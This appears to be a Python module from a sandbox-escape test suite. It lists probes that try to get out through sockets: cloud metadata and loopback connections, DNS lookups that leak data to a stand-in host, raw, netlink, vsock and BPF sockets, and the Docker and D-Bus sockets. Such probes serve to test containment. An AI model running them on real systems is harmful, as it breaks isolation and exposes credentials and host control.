"""Words to the outside, by every kind of socket."""

from __future__ import annotations

from attacks.escapes.escape import Escape

_FAMILY = "steal(lambda: socket.socket({}))"

NETWORK = {
    "tcp": Escape(
        "connects to a server on the host's loopback and on the cloud's metadata address",
        """
for host, port in (("127.0.0.1", PORT), ("0.0.0.0", PORT), ("169.254.169.254", 80), ("192.0.2.1", 443)):
    steal(lambda: socket.create_connection((host, port), 0.5))
""",
        flag="network",
    ),
    "tcp over version 6": Escape(
        "the same over version 6, and with a version 4 address inside it",
        """
for host in ("::1", "::ffff:127.0.0.1", "fe80::1%lo"):
    s = None
    def go():
        s = socket.socket(socket.AF_INET6); s.settimeout(0.5); s.connect((host.split("%")[0], PORT)); return s
    steal(go)
""",
        flag="network",
    ),
    "tcp fast open": Escape(
        "sends with the first packet, past a filter that only knows connect",
        "steal(lambda: socket.socket().sendto(b'x', 0x20000000, ('127.0.0.1', PORT)))",
        flag="network",
    ),
    "multipath tcp": Escape(
        "asks for protocols whose modules the host would have to load",
        """
for kind, protocol in ((1, 262), (1, 132), (5, 132), (2, 136), (6, 33), (1, 256), (3, 1), (3, 255), (2, 1)):
    for family in (2, 10):
        steal(lambda: socket.socket(family, kind, protocol))
""",
        flag="network",
    ),
    "udp": Escape(
        "sends datagrams to the host, to everybody and to a group",
        """
for host in ("127.0.0.1", "255.255.255.255", "224.0.0.1", "192.0.2.1"):
    s = None
    def go():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        return s.sendto(b"x", (host, UDP_PORT))
    steal(go)
""",
        flag="network",
    ),
    "names": Escape(
        "asks for a name, whose lookup would carry the words",
        "steal(lambda: socket.getaddrinfo('leak.example.org', 80))\nsteal(lambda: socket.gethostbyname('example.org'))",
    ),
    "raw": Escape(
        "raw and packet sockets",
        f"{_FAMILY.format('2, 3, 1')}\n{_FAMILY.format('10, 3, 58')}\n{_FAMILY.format('17, 3, 768')}",
        flag="network",
    ),
    "netlink": Escape(
        "talks to the kernel's routing, audit, firewall and device events",
        "for protocol in (0, 4, 6, 9, 12, 15, 16): " + _FAMILY.format("16, 3, protocol"),
        flag="network",
    ),
    "vsock": Escape(
        "calls the hypervisor",
        "steal(lambda: socket.socket(40, 1).connect((2, 1234)) or 'connected')\n" + _FAMILY.format("40, 2"),
        flag="network",
    ),
    "kernel crypto": Escape(
        "the kernel's ciphers over a socket, a path to many holes", _FAMILY.format("38, 5"), flag="network"
    ),
    "every family": Escape(
        "each address family that there is, Bluetooth, CAN, TIPC, RDS, XDP and all, in three kinds",
        """
for family in range(3, 64):
    if family != 10:
        for kind in (1, 2, 3, 5):
            steal(lambda: socket.socket(family, kind, 0))
for family in range(2, 64):
    steal(lambda: socket.socketpair(family, 1, 0))
""",
        flag="network",
    ),
    "families beyond 32 bits": Escape(
        "hides the family behind high bits that a filter may look at, or not",
        """
for high in (1 << 32, 1 << 63, 0xffffffff << 32):
    for family in (16, 17, 40):
        steal(lambda: call("socket", ctypes.c_long(high | family).value, 3, 0))
""",
        flag="network",
    ),
    "abstract sockets": Escape(
        "a name without a file, which no file rule covers",
        """
steal(lambda: socket.socket(socket.AF_UNIX).connect("\\0" + ABSTRACT) or "connected")
steal(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", "\\0" + ABSTRACT))
""",
    ),
    "named sockets": Escape(
        "the host's sockets by their paths: a container engine's, the system bus",
        """
places = (SOCKET, "/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock",
          "/run/dbus/system_bus_socket", "/run/systemd/private", "/tmp/.X11-unix/X0", "/run/systemd/journal/stdout")
for place in places:
    steal(lambda: socket.socket(socket.AF_UNIX).connect(place) or "connected")
""",
    ),
    "listening": Escape(
        "opens a port, for somebody outside to come in by",
        """
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
def go():
    s.bind(("0.0.0.0", PORT)); s.listen(); return False
steal(go)
t = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
steal(lambda: t.bind(("0.0.0.0", UDP_PORT)))
time.sleep(0.1)
""",
        modes=("warm",),
        flag="network",
    ),
    "interfaces": Escape(
        "configures interfaces by ioctl and packs routes",
        """
import fcntl
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for request in (0x8914, 0x8916, 0x890B, 0x89F0, 0x8922, 0x8948):
    steal(lambda: fcntl.ioctl(s, request, struct.pack("16sH14x", b"lo", 1) + bytes(32)))
""",
        flag="network",
    ),
    "labels of flows": Escape(
        "leases labels for packets, which stay for a minute after it, for the next stay to read",
        """
def lease():
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    for n in range(8):
        s.setsockopt(41, 32, b"EARLIER-STAY-16!" + struct.pack(">I", 0x1000 + n) + struct.pack("=BBHHHI", 0, 1, 1, 60, 60, 0))
    return "8 labels"
steal(lease)
""",
        flag="network",
    ),
    "filters on sockets": Escape(
        "loads programs of its own into the kernel through a socket: no limit counts what they are compiled to",
        """
a, b = socket.socketpair()
code = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0xffffffff))
program = struct.pack("HxxxxxxP", 1, ctypes.addressof(code))
for option in (26, 51): steal(lambda: a.setsockopt(socket.SOL_SOCKET, option, program) or "a filter")
steal(lambda: a.setsockopt(socket.SOL_SOCKET, 50, struct.pack("i", 3)) or "bpf")
""",
    ),
}
